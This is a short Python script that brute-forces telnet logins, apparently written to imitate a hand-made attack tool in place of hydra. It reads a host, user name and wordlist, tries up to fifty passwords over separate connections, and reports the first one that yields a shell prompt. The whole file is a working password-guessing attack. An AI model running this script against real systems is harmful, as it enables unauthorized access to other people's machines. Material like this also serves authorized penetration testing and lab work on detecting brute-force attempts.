#!/usr/bin/python3
"""Telnet password guessing the way a hand-written attack script does it (hydra 9.4's telnet
module types the user name before inetutils telnetd's login prompt on its second connection and
stalls): one connection per password, stop at the first shell prompt.

    telnet-guess.py HOST USER WORDLIST
"""
import sys, telnetlib, time, warnings
warnings.filterwarnings("ignore")
host, user, wordlist = sys.argv[1:4]
for pw in [w.rstrip("\n") for w in open(wordlist)][:50]:
    t = telnetlib.Telnet(host, 23, timeout=15)
    t.read_until(b"login: ", 15)
    t.write(user.encode() + b"\n")
    t.read_until(b"Password: ", 15)
    t.write(pw.encode() + b"\n")
    i, _, text = t.expect([rb"incorrect", rb"\$ ", rb"# "], 15)
    print(pw, "ok" if i in (1, 2) else "fail", flush=True)
    if i in (1, 2):
        t.write(b"exit\n")
        time.sleep(0.5)
        t.close()
        print("found %s:%s" % (user, pw))
        break
    t.close()
